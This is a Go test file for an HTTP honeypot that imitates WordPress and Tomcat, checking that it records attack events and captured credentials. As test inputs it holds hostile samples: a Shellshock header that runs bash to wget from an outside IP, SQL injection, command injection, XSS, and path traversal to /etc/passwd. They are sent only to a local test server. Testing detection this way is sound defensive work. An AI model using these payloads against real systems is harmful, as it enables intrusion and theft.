@@ -0,0 +1,138 @@
+package services
+
+import (
+	"andorralee/internal/config"
+	"andorralee/internal/repositories"
+	"crypto/tls"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+)
+
+// startTestHTTPHoneypot 在随机端口启动指定伪装的HTTP和HTTPS蜜罐
+func startTestHTTPHoneypot(t *testing.T, personality string) *HTTPHoneypot {
+	t.Helper()
+	t.Setenv("HTTP_HONEYPOT_ADDR", "127.0.0.1:0")
+	t.Setenv("HTTP_HONEYPOT_TLS_ADDR", "127.0.0.1:0")
+	t.Setenv("HTTP_HONEYPOT_PERSONALITY", personality)
+
+	honeypot := &HTTPHoneypot{}
+	if err := honeypot.Start(); err != nil {
+		t.Fatalf("启动HTTP蜜罐失败: %v", err)
+	}
+	t.Cleanup(honeypot.Stop)
+	return honeypot
+}
+
+// TestHTTPHoneypotRecordsRequests 测试请求记录为攻击事件，表单和Basic认证口令写入Headling认证日志
+func TestHTTPHoneypotRecordsRequests(t *testing.T) {
+	useSQLiteDatabase(t)
+	client := &http.Client{
+		Timeout:       5 * time.Second,
+		Transport:     &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}},
+		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
+	}
+
+	wordpress := startTestHTTPHoneypot(t, HTTPPersonalityWordPress)
+	base := "http://" + wordpress.Status().Listener
+	resp, err := client.PostForm(base+"/wp-login.php", url.Values{"log": {"admin"}, "pwd": {"P@ssw0rd"}, "wp-submit": {"Log In"}})
+	if err != nil {
+		t.Fatalf("提交登录表单失败: %v", err)
+	}
+	page, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusOK || !strings.Contains(string(page), "The password you entered for the username <strong>admin</strong> is incorrect") || resp.Header.Get("X-Powered-By") != "PHP/7.4.3" {
+		t.Fatalf("WordPress登录失败页面错误: %d %s", resp.StatusCode, page)
+	}
+	resp, err = client.Get(base + "/index.php?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--")
+	if err != nil {
+		t.Fatalf("请求失败: %v", err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusNotFound {
+		t.Errorf("不存在的页面应返回404: %d", resp.StatusCode)
+	}
+	wordpress.Stop()
+
+	tomcat := startTestHTTPHoneypot(t, HTTPPersonalityTomcat)
+	request, _ := http.NewRequest(http.MethodGet, "https://"+tomcat.Status().TLSListener+"/manager/html", nil)
+	request.SetBasicAuth("tomcat", "s3cret")
+	request.Header.Set("User-Agent", "() { :; }; /bin/bash -c 'wget http://203.0.113.9/x'")
+	resp, err = client.Do(request)
+	if err != nil {
+		t.Fatalf("HTTPS请求失败: %v", err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusUnauthorized || resp.Header.Get("WWW-Authenticate") != `Basic realm="Tomcat Manager Application"` {
+		t.Errorf("Tomcat Manager应要求Basic认证: %d %v", resp.StatusCode, resp.Header)
+	}
+	if status := tomcat.Status(); status.Requests != 1 || status.Credentials != 1 || status.Personality != HTTPPersonalityTomcat {
+		t.Errorf("蜜罐计数错误: %+v", status)
+	}
+
+	var events []repositories.AttackEvent
+	config.DB.Order("id").Find(&events)
+	if len(events) != 3 {
+		t.Fatalf("应记录3个攻击事件: %+v", events)
+	}
+	login, injection, shellshock := events[0], events[1], events[2]
+	if login.AttackType != "brute force" || login.Severity != "high" || login.Protocol != "http" || login.ContainerID != HTTPHoneypotContainerID || login.SourceIP != "127.0.0.1" || login.DestPort == 0 {
+		t.Errorf("登录事件错误: %+v", login)
+	}
+	if !strings.HasPrefix(login.Payload, "POST /wp-login.php HTTP/1.1\r\n") || !strings.Contains(login.Payload, "Content-Type: application/x-www-form-urlencoded") || !strings.HasSuffix(login.Payload, "\r\n\r\nlog=admin&pwd=P%40ssw0rd&wp-submit=Log+In") {
+		t.Errorf("应记录完整的请求行、请求头和请求体: %q", login.Payload)
+	}
+	if injection.AttackType != "sql injection" || injection.Severity != "critical" {
+		t.Errorf("SQL注入事件错误: %+v", injection)
+	}
+	if shellshock.AttackType != "command injection" || shellshock.Severity != "critical" || shellshock.Protocol != "https" || !strings.Contains(shellshock.UserAgent, "/bin/bash") {
+		t.Errorf("命令注入事件错误: %+v", shellshock)
+	}
+
+	logs, err := repositories.NewHeadlingAuthLogRepo(config.DB).GetByContainerID(HTTPHoneypotContainerID)
+	if err != nil || len(logs) != 2 {
+		t.Fatalf("Headling认证日志应有2条: %+v err=%v", logs, err)
+	}
+	for _, log := range logs {
+		switch log.Username {
+		case "admin":
+			if log.Password != "P@ssw0rd" || log.Protocol != "http" || log.SessionID != login.SessionID || log.ContainerName != "native-http" {
+				t.Errorf("表单口令记录错误: %+v", log)
+			}
+		case "tomcat":
+			if log.Password != "s3cret" || log.Protocol != "https" {
+				t.Errorf("Basic认证口令记录错误: %+v", log)
+			}
+		default:
+			t.Errorf("多余的认证日志: %+v", log)
+		}
+	}
+}
+
+// TestHTTPHoneypotConfig 测试伪装应用的校验和攻击类型识别
+func TestHTTPHoneypotConfig(t *testing.T) {
+	useSQLiteDatabase(t)
+	t.Setenv("HTTP_HONEYPOT_ADDR", "127.0.0.1:0")
+	t.Setenv("HTTP_HONEYPOT_PERSONALITY", "iis")
+	honeypot := &HTTPHoneypot{}
+	if err := honeypot.Start(); err == nil {
+		honeypot.Stop()
+		t.Fatalf("不支持的伪装应用应启动失败")
+	}
+
+	for target, want := range map[string]string{
+		"/cgi-bin/luci;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)": "command injection",
+		"/search?q=%3Cscript%3Ealert(1)%3C/script%3E":                                  "xss",
+		"/download?file=..%2F..%2F..%2Fetc%2Fpasswd":                                   "path traversal",
+		"/.env": "http probe",
+	} {
+		request, _ := http.NewRequest(http.MethodGet, "http://127.0.0.1"+target, nil)
+		request.RequestURI = target
+		if got := classifyHTTPAttack(request, nil, false); got != want {
+			t.Errorf("classifyHTTPAttack(%s) = %s, want %s", target, got, want)
+		}
+	}
+}